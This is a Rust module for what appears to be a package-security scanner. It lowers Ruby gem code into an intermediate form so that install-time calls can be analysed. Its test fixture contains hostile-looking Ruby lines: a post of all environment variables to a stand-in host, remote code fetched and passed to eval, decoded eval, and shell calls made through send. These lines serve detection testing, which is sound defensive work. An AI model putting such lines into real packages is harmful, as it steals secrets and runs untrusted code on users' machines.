//! Ruby through tree-sitter-ruby, lowered to the shared IR.
//!
//! Gems run Ruby at install (extconf.rb, Rakefiles named as extensions, rubygems_plugin.rb
//! hooks), so the lowering keeps what those do: method calls with or without parentheses,
//! backticks and `%x{}` as calls of `` ` ``, constants joined as `Net::HTTP`, `X.new(...)` as
//! a call of `X` (as Python spells construction), `obj.send(:m, ...)` as a call of `m`,
//! blocks analysed in place with their parameters bound to what the method returns.

use super::ir::{Call, DefKind, Expr, Module, Stmt};
use super::ts::{self, line, named_children, text};
use crate::archive::limits::Limits;
use tree_sitter::Node;

/// Lowers Ruby source; `parse_error` is set when the tree has errors.
pub fn lower(source: &str, limits: &Limits) -> Module {
    ts::lower_tree(tree_sitter_ruby::LANGUAGE.into(), source, limits, |root| {
        let mut l = Lowerer {
            src: source,
            strings: Vec::new(),
            max_depth: limits.max_ast_depth,
            truncated: false,
        };
        let mut body = Vec::new();
        l.stmt(root, 0, &mut body);
        (body, l.strings, l.truncated)
    })
}

struct Lowerer<'s> {
    src: &'s str,
    strings: Vec<(String, u32)>,
    max_depth: usize,
    truncated: bool,
}

/// Node kinds whose named children are statements of the same scope.
fn is_statement_container(kind: &str) -> bool {
    matches!(
        kind,
        "program"
            | "body_statement"
            | "block_body"
            | "begin"
            | "then"
            | "else"
            | "elsif"
            | "if"
            | "unless"
            | "while"
            | "until"
            | "for"
            | "case"
            | "when"
            | "in_clause"
            | "case_match"
            | "rescue"
            | "ensure"
            | "begin_block"
            | "end_block"
            | "if_modifier"
            | "unless_modifier"
            | "while_modifier"
            | "until_modifier"
            | "rescue_modifier"
            | "parenthesized_statements"
            | "ERROR"
    )
}

/// Methods that dispatch to the method named by their first argument.
const SENDERS: &[&str] = &["send", "public_send", "__send__"];

impl<'s> Lowerer<'s> {
    fn too_deep(&mut self, depth: usize) -> bool {
        if depth > self.max_depth {
            self.truncated = true;
        }
        depth > self.max_depth
    }

    fn stmt(&mut self, n: Node, depth: usize, out: &mut Vec<Stmt>) {
        if self.too_deep(depth) {
            return;
        }
        let d = depth + 1;
        let ln = line(n);
        match n.kind() {
            "comment" | "empty_statement" | "heredoc_beginning" => {}
            "method" | "singleton_method" => {
                let name = match self.field_text(n, "name").as_str() {
                    // The IR names constructors as Python does.
                    "initialize" => "__init__".to_string(),
                    other => other.to_string(),
                };
                let body = self.body(n, &["name", "parameters", "object"], d);
                out.push(Stmt::Def {
                    name,
                    kind: DefKind::Function,
                    params: Vec::new(),
                    bases: vec![],
                    body,
                    line: ln,
                });
            }
            "class" | "module" | "singleton_class" => {
                let name = self.field_text(n, "name");
                let bases = n
                    .child_by_field_name("superclass")
                    .map(|s| {
                        named_children(s)
                            .into_iter()
                            .map(|b| self.expr(b, d))
                            .collect()
                    })
                    .unwrap_or_default();
                let body = self.body(n, &["name", "superclass", "value"], d);
                out.push(Stmt::Def {
                    name,
                    kind: DefKind::Class,
                    params: Vec::new(),
                    bases,
                    body,
                    line: ln,
                });
            }
            "assignment" => {
                let target = self.field_expr(n, "left", d);
                let value = self.field_expr(n, "right", d);
                out.push(Stmt::Assign {
                    targets: vec![target],
                    value,
                    line: ln,
                });
            }
            "operator_assignment" => {
                let target = self.field_expr(n, "left", d);
                let right = self.field_expr(n, "right", d);
                let op = n
                    .child_by_field_name("operator")
                    .map(|o| text(o, self.src))
                    .unwrap_or("");
                let value = if op == "+=" {
                    Expr::Concat(vec![target.clone(), right])
                } else {
                    right
                };
                out.push(Stmt::Assign {
                    targets: vec![target],
                    value,
                    line: ln,
                });
            }
            "return" => {
                let mut values: Vec<Expr> = named_children(n)
                    .into_iter()
                    .flat_map(named_children)
                    .map(|c| self.expr(c, d))
                    .collect();
                let value = if values.len() == 1 {
                    values.remove(0)
                } else {
                    Expr::Other(values)
                };
                out.push(Stmt::Return { value, line: ln });
            }
            "call" if n.child_by_field_name("receiver").is_none() && self.required(n).is_some() => {
                let module = self.required(n).unwrap_or_default();
                out.push(Stmt::Import {
                    module,
                    alias: None,
                    line: ln,
                });
            }
            k if is_statement_container(k) => {
                for c in named_children(n) {
                    self.stmt(c, d, out);
                }
            }
            _ => {
                let value = self.expr(n, d);
                out.push(Stmt::Eval { value, line: ln });
            }
        }
    }

    /// The statements of a definition: its named children other than `skip` fields,
    /// with parameter defaults first.
    fn body(&mut self, n: Node, skip: &[&str], d: usize) -> Vec<Stmt> {
        let skipped: Vec<usize> = skip
            .iter()
            .filter_map(|f| n.child_by_field_name(f))
            .map(|c| c.id())
            .collect();
        let mut body = Vec::new();
        if let Some(params) = n.child_by_field_name("parameters") {
            for p in named_children(params) {
                if let Some(v) = p.child_by_field_name("value") {
                    let value = self.expr(v, d);
                    body.push(Stmt::Eval {
                        value,
                        line: line(v),
                    });
                }
            }
        }
        for c in named_children(n) {
            if !skipped.contains(&c.id()) {
                self.stmt(c, d, &mut body);
            }
        }
        body
    }

    /// `require 'x'` / `require_relative 'x'` / `load 'x'` with a literal name.
    fn required(&self, call: Node) -> Option<String> {
        let method = call.child_by_field_name("method")?;
        if !matches!(
            text(method, self.src),
            "require" | "require_relative" | "load"
        ) {
            return None;
        }
        let args = named_children(call.child_by_field_name("arguments")?);
        match args.as_slice() {
            [s] if s.kind() == "string"
                && named_children(*s)
                    .iter()
                    .all(|c| c.kind() == "string_content") =>
            {
                Some(
                    named_children(*s)
                        .iter()
                        .map(|c| text(*c, self.src))
                        .collect(),
                )
            }
            _ => None,
        }
    }

    fn field_text(&self, n: Node, field: &str) -> String {
        n.child_by_field_name(field)
            .map(|x| text(x, self.src).to_string())
            .unwrap_or_default()
    }

    fn field_expr(&mut self, n: Node, field: &str, d: usize) -> Expr {
        n.child_by_field_name(field)
            .map(|x| self.expr(x, d))
            .unwrap_or(Expr::Other(vec![]))
    }

    fn children(&mut self, n: Node, d: usize) -> Vec<Expr> {
        named_children(n)
            .into_iter()
            .filter(|c| c.kind() != "comment")
            .map(|c| self.expr(c, d))
            .collect()
    }

    fn expr(&mut self, n: Node, depth: usize) -> Expr {
        if self.too_deep(depth) {
            return Expr::Other(vec![]);
        }
        let d = depth + 1;
        match n.kind() {
            "identifier" | "constant" | "instance_variable" | "class_variable"
            | "global_variable" | "self" => Expr::Name(text(n, self.src).to_string()),
            "scope_resolution" => match self.constant_path(n) {
                Some(path) => Expr::Name(path),
                None => Expr::Attr(
                    Box::new(self.field_expr(n, "scope", d)),
                    self.field_text(n, "name"),
                ),
            },
            "integer" => text(n, self.src)
                .replace('_', "")
                .parse()
                .map(Expr::Int)
                .unwrap_or(Expr::Other(vec![])),
            "true" => Expr::Int(1),
            "false" => Expr::Int(0),
            "nil" => Expr::Other(vec![]),
            "simple_symbol" => Expr::Str(text(n, self.src).trim_start_matches(':').to_string()),
            "hash_key_symbol" => Expr::Str(text(n, self.src).to_string()),
            "string" | "delimited_symbol" | "bare_string" | "heredoc_body" => self.string(n, d),
            "chained_string" => Expr::Concat(self.children(n, d)),
            "subshell" => {
                let command = self.string(n, d);
                Expr::Call(Box::new(Call {
                    func: Expr::Name("`".into()),
                    args: vec![command],
                    kwargs: vec![],
                    line: line(n),
                    reflective: false,
                }))
            }
            "call" => self.call(n, d),
            "element_reference" => {
                let obj = self.field_expr(n, "object", d);
                let index = named_children(n)
                    .into_iter()
                    .skip(1)
                    .find(|c| c.kind() != "comment");
                Expr::Index(
                    Box::new(obj),
                    Box::new(
                        index
                            .map(|i| self.expr(i, d))
                            .unwrap_or(Expr::Other(vec![])),
                    ),
                )
            }
            "binary" => self.binary(n, d),
            "array"
            | "string_array"
            | "symbol_array"
            | "left_assignment_list"
            | "right_assignment_list" => Expr::Seq(self.children(n, d)),
            "hash" => Expr::Dict(
                named_children(n)
                    .into_iter()
                    .filter(|p| p.kind() == "pair")
                    .map(|p| (self.field_expr(p, "key", d), self.field_expr(p, "value", d)))
                    .collect(),
            ),
            "parenthesized_statements"
            | "interpolation"
            | "splat_argument"
            | "hash_splat_argument"
            | "block_argument" => {
                let mut kids = self.children(n, d);
                if kids.len() == 1 {
                    kids.remove(0)
                } else {
                    Expr::Other(kids)
                }
            }
            "lambda" | "block" | "do_block" => Expr::Lambda(self.block(n, None, d)),
            "assignment" | "operator_assignment" => {
                // An assignment used as a value: keep both sides so calls inside are seen.
                Expr::Other(vec![
                    self.field_expr(n, "left", d),
                    self.field_expr(n, "right", d),
                ])
            }
            "comment" | "regex" | "heredoc_beginning" => Expr::Other(vec![]),
            k if is_statement_container(k) || matches!(k, "method" | "class" | "module") => {
                let mut body = Vec::new();
                self.stmt(n, d, &mut body);
                Expr::Lambda(body)
            }
            _ => Expr::Other(self.children(n, d)),
        }
    }

    /// `Net::HTTP` for a path of constants; None when a part is computed.
    fn constant_path(&self, n: Node) -> Option<String> {
        let name = self.field_text(n, "name");
        match n.child_by_field_name("scope") {
            None => Some(name),
            Some(s) if s.kind() == "constant" => Some(format!("{}::{name}", text(s, self.src))),
            Some(s) if s.kind() == "scope_resolution" => {
                Some(format!("{}::{name}", self.constant_path(s)?))
            }
            Some(_) => None,
        }
    }

    fn call(&mut self, n: Node, d: usize) -> Expr {
        let method = self.field_text(n, "method");
        let receiver = n.child_by_field_name("receiver").map(|r| self.expr(r, d));
        let mut arg_nodes: Vec<Node> = n
            .child_by_field_name("arguments")
            .map(|a| {
                named_children(a)
                    .into_iter()
                    .filter(|c| c.kind() != "comment")
                    .collect()
            })
            .unwrap_or_default();
        // `obj.send(:system, cmd)` calls `system`.
        let mut method = method;
        if SENDERS.contains(&method.as_str()) {
            if let Some(first) = arg_nodes
                .first()
                .filter(|a| matches!(a.kind(), "simple_symbol" | "string"))
            {
                method = text(*first, self.src)
                    .trim_matches([':', '"', '\''])
                    .to_string();
                arg_nodes.remove(0);
            }
        }
        let func = match (receiver, method.as_str()) {
            (Some(r), "new") => r,
            (Some(r), "call") if matches!(r, Expr::Lambda(_)) => r,
            (Some(r), m) => Expr::Attr(Box::new(r), m.to_string()),
            (None, m) => Expr::Name(m.to_string()),
        };
        let mut args = Vec::new();
        let mut kwargs = Vec::new();
        for a in arg_nodes {
            if a.kind() == "pair" {
                let key = a
                    .child_by_field_name("key")
                    .map(|k| text(k, self.src).trim_matches([':', '"', '\'']).to_string());
                let value = self.field_expr(a, "value", d);
                kwargs.push((key.unwrap_or_default(), value));
            } else {
                args.push(self.expr(a, d));
            }
        }
        if let Some(b) = n.child_by_field_name("block") {
            args.push(Expr::Lambda(self.block(b, Some(&func), d)));
        }
        Expr::Call(Box::new(Call {
            func,
            args,
            kwargs,
            line: line(n),
            reflective: false,
        }))
    }

    /// The statements of a block; its parameters are bound to what `callee` returns.
    fn block(&mut self, b: Node, callee: Option<&Expr>, d: usize) -> Vec<Stmt> {
        let mut body = Vec::new();
        let params = b.child_by_field_name("parameters");
        if let (Some(callee), Some(ps)) = (callee, params) {
            let targets: Vec<Expr> = named_children(ps)
                .into_iter()
                .filter(|p| p.kind() == "identifier")
                .map(|p| Expr::Name(text(p, self.src).to_string()))
                .collect();
            if !targets.is_empty() {
                body.push(Stmt::Assign {
                    targets: vec![Expr::Seq(targets)],
                    value: Expr::ResultOf(Box::new(callee.clone()), None),
                    line: line(b),
                });
            }
        }
        for c in named_children(b) {
            if Some(c.id()) != params.map(|p| p.id()) {
                self.stmt(c, d, &mut body);
            }
        }
        body
    }

    /// Binary operators; `+` chains are walked along their left spine iteratively.
    fn binary(&mut self, n: Node, d: usize) -> Expr {
        match ts::operator(n) {
            "+" => Expr::Concat(
                ts::plus_operands(n, "binary")
                    .into_iter()
                    .map(|x| self.expr(x, d))
                    .collect(),
            ),
            o => {
                let l = self.field_expr(n, "left", d);
                let r = self.field_expr(n, "right", d);
                if o == "%" {
                    Expr::Percent(Box::new(l), Box::new(r))
                } else {
                    Expr::Other(vec![l, r])
                }
            }
        }
    }

    /// A string-like node: literal text, escapes decoded, interpolations as template parts.
    fn string(&mut self, n: Node, d: usize) -> Expr {
        let mut parts = Vec::new();
        let mut literal = String::new();
        let mut hidden = String::new();
        for c in named_children(n) {
            match c.kind() {
                "string_content" | "heredoc_content" => literal.push_str(text(c, self.src)),
                "escape_sequence" => {
                    hidden.push_str(text(c, self.src));
                    literal.push_str(&ts::unescape(text(c, self.src)));
                }
                "interpolation" => {
                    if !literal.is_empty() {
                        parts.push(Expr::Str(std::mem::take(&mut literal)));
                    }
                    parts.push(self.expr(c, d));
                }
                _ => {}
            }
        }
        if parts.is_empty() {
            self.strings.push((literal.clone(), line(n)));
            let s = Expr::Str(literal);
            return if ts::hides_text(&hidden) {
                Expr::Decoded(Box::new(s))
            } else {
                s
            };
        }
        if !literal.is_empty() {
            parts.push(Expr::Str(literal));
        }
        Expr::Template(parts)
    }
}

#[cfg(test)]
mod tests {
    use crate::archive::limits::Limits;
    use crate::lang::facts::Labels;
    use crate::lang::{analyse, Lang};

    #[test]
    fn commands_network_and_paths() {
        let facts = analyse(
            Lang::Ruby,
            "require 'net/http'\n\
             system \"curl -s http://192.0.2.1/x -o #{Dir.home}/.x\"\n\
             out = `id`\n\
             %x{uname -a}\n\
             Net::HTTP.post(URI('https://x.invalid/c'), ENV.to_h.to_json)\n\
             File.write(File.join(ENV['HOME'], '.y'), 'z')\n\
             eval(Base64.decode64('aWQ='))\n\
             Kernel.send(:system, 'whoami')\n\
             URI.open('https://x.invalid/p') { |f| eval(f.read) }\n",
            &Limits::default(),
        );
        let callees: Vec<&str> = facts.calls.iter().map(|c| c.callee.as_str()).collect();
        for want in [
            "system",
            "sh.curl",
            "`",
            "sh.id",
            "sh.uname",
            "Net::HTTP.post",
            "File.write",
            "Kernel.system",
            "sh.whoami",
        ] {
            assert!(callees.contains(&want), "{want} not in {callees:?}");
        }
        let curl = facts.calls.iter().find(|c| c.callee == "sh.curl").unwrap();
        assert!(curl.args.iter().any(|a| a.text.as_deref() == Some("~/.x")));
        let post = facts
            .calls
            .iter()
            .find(|c| c.callee == "Net::HTTP.post")
            .unwrap();
        assert!(post.arg_labels().has(Labels::ENV));
        let write = facts
            .calls
            .iter()
            .find(|c| c.callee == "File.write")
            .unwrap();
        assert_eq!(write.write_target(), Some("~/.y"));
        let evals: Vec<_> = facts.calls.iter().filter(|c| c.callee == "eval").collect();
        assert!(evals[0].arg_labels().has(Labels::DECODED));
        assert!(evals[1].arg_labels().has(Labels::DOWNLOADED));
    }
}
